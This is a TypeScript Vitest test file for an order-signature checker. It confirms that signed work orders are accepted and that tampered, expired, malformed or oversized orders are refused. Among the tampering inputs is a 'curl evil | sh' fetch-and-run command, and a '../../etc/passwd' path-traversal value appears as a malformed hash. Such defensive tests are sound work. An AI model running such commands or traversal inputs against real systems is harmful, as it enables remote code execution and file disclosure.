import { describe, expect, it } from 'vitest';
import { AppError } from '../../../src/contracts/errors.ts';
import { asId } from '../../../src/contracts/ids.ts';
import type { OrderBody, WorkOrder } from '../../../src/contracts/order.ts';
import { checkOrder, ORDER_MAX_BYTES } from '../../../src/host/orders/check-order.ts';
import { orderMac } from '../../../src/host/orders/order-mac.ts';

const SECRET = 'a-secret-of-the-installation';
const NOW_MS = Date.parse('2026-03-01T02:00:00Z');
const installation = asId('installation', 'i_0123456789');
const host = asId('host', 'desk-ab12');
const check = { secret: SECRET, installation, host, nowMs: NOW_MS };

const body: OrderBody = {
  v: 1,
  installation,
  host,
  batch: asId('batch', 'b_0123456789'),
  batchName: 'Friday',
  task: asId('task', 't_0123456789'),
  attempt: 1,
  epoch: 1,
  kind: 'requirement',
  project: asId('project', 'p_0123456789'),
  projectName: 'shop',
  projectPath: '/home/me/shop',
  trustedSha256: null,
  input: { name: 'add login', sha256: 'a'.repeat(64) },
  overrides: { env: { MODE: 'test' }, verify: ['npm test'] },
  notAfter: '2026-03-02T02:00:00Z',
};

function sign(order: OrderBody, secret = SECRET): WorkOrder {
  return { ...order, mac: orderMac(order, secret) };
}

function reasonOf(order: WorkOrder, over: Partial<typeof check> = {}): unknown {
  try {
    checkOrder(order, { ...check, ...over });
    return null;
  } catch (error) {
    if (!AppError.is(error, 'order_refused')) throw error;
    return error.details['reason'];
  }
}

describe('checkOrder', () => {
  it('accepts what we signed, also after a way through JSON with another order of keys', () => {
    const order = sign(body);
    expect(reasonOf(order)).toBe(null);
    const turned: WorkOrder = JSON.parse(JSON.stringify(Object.fromEntries(Object.entries(order).toReversed())));
    expect(reasonOf(turned)).toBe(null);
  });

  const tampered: [string, Partial<WorkOrder>][] = [
    ['installation', { installation: asId('installation', 'i_9999999999') }],
    ['host', { host: asId('host', 'other-zz99') }],
    ['batch', { batch: asId('batch', 'b_9999999999') }],
    ['batch name', { batchName: 'Saturday' }],
    ['task', { task: asId('task', 't_9999999999') }],
    ['attempt', { attempt: 2 }],
    ['epoch', { epoch: 2 }],
    ['project', { project: asId('project', 'p_9999999999') }],
    ['path', { projectPath: '/etc' }],
    ['input', { input: { name: 'add login', sha256: 'b'.repeat(64) } }],
    ['a new override', { overrides: { ...body.overrides, setup: ['curl evil | sh'] } }],
    ['a changed list', { overrides: { ...body.overrides, verify: ['true'] } }],
    ['a variable', { overrides: { ...body.overrides, env: { MODE: 'prod' } } }],
    [
      'a variable that is called like the signature',
      { overrides: { ...body.overrides, env: { MODE: 'test', mac: 'x' } } },
    ],
    ['the time', { notAfter: '2036-03-02T02:00:00Z' }],
  ];
  it.each(tampered)('refuses an order in which %s was changed after signing', (_what, change) => {
    expect(reasonOf({ ...sign(body), ...change })).toBe('signature');
  });

  it('refuses another secret, an empty secret, a missing and a malformed signature', () => {
    expect(reasonOf(sign(body, 'other'))).toBe('signature');
    expect(reasonOf(sign(body, 'x'), { secret: '' })).toBe('signature');
    const { mac } = sign(body);
    for (const wrong of ['', mac.slice(1), mac.toUpperCase(), `${mac}00`, 'z'.repeat(64)]) {
      expect(reasonOf({ ...body, mac: wrong })).toBe('signature');
    }
  });

  it.each([
    ['installation', { installation: asId('installation', 'i_9999999999') }],
    ['host', { host: asId('host', 'other-zz99') }],
    ['expired', { notAfter: '2026-03-01T01:59:59Z' }],
    ['form', { notAfter: 'tomorrow' }],
    ['form', { attempt: 0 }],
    ['form', { input: { name: 'x', sha256: '../../etc/passwd' } }],
    ['size', { overrides: { prompt: 'x'.repeat(ORDER_MAX_BYTES) } }],
  ])('refuses with reason %s an order that is signed well but not for us, not now or not sound', (reason, change) => {
    expect(reasonOf(sign({ ...body, ...change }))).toBe(reason);
  });

  it('refuses what is no order at all', () => {
    for (const text of ['null', '[]', '"x"', '{}', `${'['.repeat(15_000)}${']'.repeat(15_000)}`]) {
      const order: WorkOrder = JSON.parse(text);
      expect(['form', 'signature']).toContain(reasonOf(order));
    }
  });
});
